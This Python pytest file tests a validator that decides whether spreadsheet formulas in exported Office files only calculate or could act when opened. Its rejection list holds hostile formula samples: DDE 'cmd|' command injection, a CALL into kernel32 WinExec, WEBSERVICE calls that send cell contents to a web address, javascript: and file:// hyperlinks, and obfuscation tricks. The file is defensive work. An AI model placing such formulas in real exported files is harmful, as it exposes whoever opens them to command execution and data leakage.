"""Which formulas only calculate, and which could do more where they are opened."""

from __future__ import annotations

import pytest

from pipeline.export.office.formulas import is_harmless

SHEETS = ("liste", "alte liste", "büro's")


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        'IF(G5="","",HYPERLINK("mailto:"&G5,"Mail"))',
        'HYPERLINK("tel:"&SUBSTITUTE(E5," ",""),E5)',
        'HYPERLINK("https://www.example.org/?q="&A1)',
        'HYPERLINK( "#Archiv!A1","alte Fassung")',
        "COUNTA($D$5:$D$9)-1",
        "_xlfn.XLOOKUP(A5,'Alte Liste'!A:A,Liste!$B:$B,\"\")",
        '_xlfn._xlws.FILTER(A1:B9,A1:A9<>"")',
        "'Büro''s'!B2&\" / \"&LEFT(C2,3)",
        "Tabelle1[[#This Row],[Telefon (Büro)]]&Tabelle1[Ort]",
        'TEXT(TODAY(),"TT.MM.JJJJ")',
        "{1,2;3,4}*1.5E+3%",
        "Liste!#REF!+#N/A",
        "_xlfn.ANCHORARRAY(A1)",
        "[0]!Orte",
        "Orte",
        "\"=cmd|'/C calc'!A0 [1]Liste!A1\"",  # a text
        "",
    ],
)
def test_what_only_calculates(formula: str) -> None:
    assert is_harmless(formula, SHEETS)


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "[1]Liste!A1",
        "'[1]Alte Liste'!A1",
        "SUM('C:\\Listen\\[Liste.xlsx]Liste'!A1)",
        "'http://example.org/liste.xlsx'!A1",
        "'\\\\server\\liste'!A1",
        "Mappe.xlsx!Orte",
        "Fremd!A1",  # no sheet of this workbook
        'WEBSERVICE("http://example.org/?"&A1)',
        '_xlfn.WEBSERVICE("http://example.org/")',
        'webservice ("http://example.org/")',
        '_xlfn.IMAGE("http://example.org/bild.png")',
        'RTD("prog",,"x")',
        'CALL("kernel32","WinExec","JCJ","calc",0)',
        'DDE("soffice","liste","A1")',
        "INDIRECT(A1)",
        "_xll.WOANDERS(1)",
        "Eigene(1)",
        'HYPERLINK("javascript:alert(1)")',
        'HYPERLINK("file:///C:/Windows/calc.exe","Hilfe")',
        'HYPERLINK("\\\\server\\liste.xlsx")',
        "HYPERLINK(A1)",
        'hyperlink (A1&"https://")',
        'IF(A1,HYPERLINK("https://example.org"),HYPERLINK(B1))',
        "Tabelle1[1]Liste!A1",
        '"a"_x0022_WEBSERVICE(1)',
        "WEB\u200bSERVICE(A1)",
        'A1&"',
        "SUM(A1)\0",
        "+1" * 5000,  # longer than any program writes
    ],
)
def test_what_could_do_more(formula: str) -> None:
    assert not is_harmless(formula, SHEETS)


def test_a_name_that_is_gone_is_used_by_nobody() -> None:
    assert is_harmless("SUM(Orte)", SHEETS, {"fremd"})
    assert not is_harmless("SUM(Fremd)", SHEETS, {"fremd"})
    assert is_harmless('"Fremd"', SHEETS, {"fremd"})
